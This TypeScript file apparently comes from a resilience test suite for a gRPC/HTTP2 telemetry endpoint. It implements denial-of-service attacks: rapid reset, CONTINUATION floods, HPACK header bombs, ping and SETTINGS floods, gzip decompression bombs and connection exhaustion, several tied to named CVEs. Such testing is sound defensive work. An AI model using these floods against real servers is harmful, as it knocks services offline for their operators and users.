// HTTP/2 at the gRPC port, before anyone has said who they are.
import {gzipSync} from 'node:zlib';
import type {Socket} from 'node:net';
import {pause} from '../lib/wait.js';
import type {Attack, Attackers} from './attack.js';
import {idle} from './descriptors.js';
import {exportPath, grpcMessage, http2, spansRequest} from './protobuf.js';

const data = 0,
  headers = 1,
  reset = 3,
  settings = 4,
  pings = 6,
  continuation = 9;
const endStream = 1,
  endHeaders = 4;
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), http2(settings, 0, 0)]);
// HPACK (RFC 7541 §6.2.2): literals that no table keeps.
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
const request = (...more: [string, string][]): Buffer =>
  Buffer.concat(
    (
      [
        [':method', 'POST'],
        [':scheme', 'http'],
        [':path', exportPath],
        [':authority', 'localhost'],
        ['content-type', 'application/grpc'],
        ['te', 'trailers'],
        ...more,
      ] as [string, string][]
    ).map(([name, value]) => literal(name, value)),
  );

const opened = async (by: Attackers): Promise<Socket | undefined> => {
  const socket = await by.connect(by.target.grpc);
  socket?.resume();
  return socket && (await by.write(socket, preface)) ? socket : undefined;
};
// Batches of frames, each made for the streams that come next.
const streams =
  (make: (stream: number) => Buffer, batch: number, what: string) =>
  async (by: Attackers): Promise<void> =>
    by.each(async () => {
      const socket = await opened(by);
      if (!socket) return void (await pause(50));
      for (let stream = 1; !by.over && stream < 0x7fffffff - 2 * batch; stream += 2 * batch) {
        const some = Buffer.concat(Array.from({length: batch}, (_, i) => make(stream + 2 * i)));
        if (!(await by.write(socket, some))) return;
        by.count(what, batch);
      }
    });
const same =
  (bytes: Buffer, what: string, first: Uint8Array = Buffer.alloc(0), read = true) =>
  async (by: Attackers) =>
    by.each(async () => {
      const socket = await opened(by);
      if (!socket) return void (await pause(50));
      if (!read) socket.pause();
      if (await by.write(socket, first.length ? first : http2(settings, 1, 0))) await by.flood(socket, bytes, what);
    });

const head = request();
const export_ = (stream: number, body: Buffer, ...more: [string, string][]): Buffer =>
  Buffer.concat([
    http2(headers, endHeaders, stream, request(...more)),
    // At most 16 KiB a frame (RFC 9113 §4.2).
    ...Array.from({length: Math.ceil(body.length / 16_384)}, (_, i) =>
      http2(data, (i + 1) * 16_384 >= body.length ? endStream : 0, stream, body.subarray(i * 16_384, (i + 1) * 16_384)),
    ),
  ]);

export const grpc: Attack[] = [
  {
    name: 'grpc-rapid-reset',
    what: 'requests, each reset at once (CVE-2023-44487)',
    target: 'console',
    ci: 32,
    run: streams(
      (stream) =>
        Buffer.concat([http2(headers, endHeaders, stream, head), http2(reset, 0, stream, Buffer.from([0, 0, 0, 8]))]),
      200,
      'resets',
    ),
  },
  {
    name: 'grpc-continuations',
    what: 'a head that CONTINUATION frames go on with for ever (CVE-2024-27316)',
    target: 'console',
    ci: 32,
    run: async (by) => {
      const piece = Buffer.concat(Array.from({length: 70}, () => literal('x-filler', 'y'.repeat(100))));
      await same(http2(continuation, 0, 1, piece), 'bytes', http2(headers, 0, 1, head))(by);
    },
  },
  {
    name: 'grpc-header-bombs',
    what: 'heads of 16 KiB that refer to one field of 4 KiB thousands of times',
    target: 'console',
    run: async (by) => {
      const value = Buffer.alloc(3900, 'y');
      // §6.2.1 with a new name, its value's length in three bytes; then §6.1: the newest entry of the table.
      const long = Buffer.concat([
        Buffer.from([0x40, 1, 0x78, 0x7f, ((3900 - 127) % 128) | 128, (3900 - 127) >> 7]),
        value,
      ]);
      const bomb = Buffer.concat([head, long, Buffer.alloc(12_000, 0xbe)]);
      await streams((stream) => http2(headers, endHeaders | endStream, stream, bomb), 4, 'bombs')(by);
    },
  },
  {
    name: 'grpc-pings',
    what: 'HTTP/2 pings without end, and no answer read (CVE-2019-9512)',
    target: 'console',
    run: async (by) => {
      const ping = http2(pings, 0, 0, Buffer.alloc(8));
      await same(Buffer.concat(Array.from({length: 3000}, () => ping)), 'bytes', undefined, false)(by);
    },
  },
  {
    name: 'grpc-settings',
    what: 'SETTINGS without end, and no acknowledgement read (CVE-2019-9515)',
    target: 'console',
    run: async (by) => {
      const one = http2(settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]));
      await same(Buffer.concat(Array.from({length: 3000}, () => one)), 'bytes', undefined, false)(by);
    },
  },
  {
    name: 'grpc-empty-data',
    what: 'empty DATA frames without end (CVE-2019-9518)',
    target: 'console',
    run: async (by) => {
      const one = http2(data, 0, 1);
      const many = Buffer.concat(Array.from({length: 5000}, () => one));
      await same(many, 'bytes', http2(headers, endHeaders, 1, head))(by);
    },
  },
  {
    name: 'grpc-half-requests',
    what: 'requests whose message is announced with 4 GiB and stays away, on as many streams as there may be',
    target: 'console',
    run: async (by) => {
      const announced = Buffer.from([0, 0xff, 0xff, 0xff, 0xff]);
      const bodies = Buffer.alloc(8192, 'x');
      await by.each(async () => {
        const socket = await opened(by);
        if (!socket) return void (await pause(50));
        for (let stream = 1; stream < 200 && !by.over; stream += 2) {
          const first = http2(data, 0, stream, Buffer.concat([announced, bodies]));
          if (!(await by.write(socket, Buffer.concat([http2(headers, endHeaders, stream, head), first])))) return;
          by.count('streams');
        }
        await by.hold(socket);
      });
    },
  },
  {
    name: 'grpc-gzip-bombs',
    what: 'compressed messages of 60 KiB that are 62 MiB',
    target: 'console',
    attackers: [1, 6],
    run: async (by) => {
      const packed = gzipSync(Buffer.alloc(62 << 20), {level: 9});
      const body = grpcMessage(packed);
      body[0] = 1;
      await by.each(async () => {
        const socket = await opened(by);
        if (!socket) return void (await pause(50));
        // Frames beyond the window are a violation: one message is within a connection's first 65,535 bytes.
        if (await by.write(socket, export_(1, body.subarray(0, 65_000), ['grpc-encoding', 'gzip']))) by.count('bombs');
        await pause(50);
        socket.destroy();
      });
    },
  },
  {
    name: 'grpc-exports',
    what: 'valid requests on many streams, and no answer read',
    target: 'console',
    run: async (by) => {
      const body = grpcMessage(spansRequest(1, [], 'attacker'));
      await by.each(async () => {
        const socket = await opened(by);
        if (!socket) return void (await pause(50));
        for (let stream = 1; stream < 400 && !by.over; stream += 2) {
          if (!(await by.write(socket, export_(stream, body)))) return;
          by.count('requests');
        }
        await pause(20);
        socket.destroy();
      });
    },
  },
  {
    name: 'grpc-idle',
    what: '900 idle connections where the process may have 700 descriptors',
    target: 'console',
    attackers: [1],
    sheds: true,
    setting: {descriptors: 700},
    run: idle((by) => by.target.grpc, 900),
  },
];
